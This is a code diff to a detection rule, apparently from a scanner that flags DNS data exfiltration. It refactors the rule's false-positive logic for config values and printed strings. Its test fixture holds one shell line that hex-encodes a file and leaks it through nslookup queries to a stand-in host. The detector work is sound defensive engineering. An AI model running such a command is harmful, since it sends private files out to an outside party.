@@ -34,7 +34,6 @@ const printed = new RegExp(
     String.raw`\b(?:console\.\w{3,5}|print(?:f|ln)?|logg?(?:er|ing)?\.\w{3,9}|log|echo|puts|Write-(?:Host|Output)|fmt\.Print\w{0,3}`,
     String.raw`|println!)\s{0,2}\(?\s{0,3}[bfru]?(["'\x60])(?:(?!\1)(?!\$\(|\x60)[^\n]){0,120}$`,
   ].join(''),
-  '',
 );
 
 export const dataInDns: PatternRule = {
@@ -85,14 +84,12 @@ export const dataInDns: PatternRule = {
           edge,
         ),
       ],
-      // In a value of settings the names are words, unless the command begins there.
-      // What a program prints is no command either.
-      weigh: ({ match, region, severity }) =>
-        printed.test(match.input.slice(0, match.index))
-          ? null
-          : region.kind === 'config' && !commandStart.test(match.input.slice(0, match.index).slice(-24))
-            ? null
-            : severity,
+      // In a value of settings the names are words, unless the command begins there. What a program prints is no command either.
+      weigh: ({ match, region, severity }) => {
+        const before = match.input.slice(0, match.index);
+        const isSetting = region.kind === 'config' && !commandStart.test(before.slice(-24));
+        return isSetting || printed.test(before) ? null : severity;
+      },
       catches: [inFile('scripts/a.sh', 'for c in $(xxd -p notes.txt); do nslookup "$c.t.invalid"; done')],
       spares: [
         inFile('scripts/a.js', 'console.log(`Host names: ${found.names.join(", ")}`);'),
